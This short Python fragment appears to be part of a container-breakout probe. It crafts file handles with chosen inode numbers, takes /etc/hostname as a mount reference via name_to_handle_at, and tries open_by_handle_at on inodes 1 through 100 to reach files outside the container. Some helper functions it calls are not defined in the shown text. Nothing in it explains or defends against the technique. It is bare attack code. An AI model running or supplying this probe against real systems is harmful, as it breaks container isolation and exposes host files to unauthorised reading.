handle = lambda inode: memory((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(4, "little") + bytes(4))
say("name_to_handle_at", call("name_to_handle_at", -100, memory(b"/etc/hostname"), handle(0), memory(bytes(8)), 0))
mount = os.open("/etc/hostname", os.O_RDONLY)
print("inodes 1 to 100:", *{call("open_by_handle_at", mount, handle(n), 0) for n in range(1, 101)})
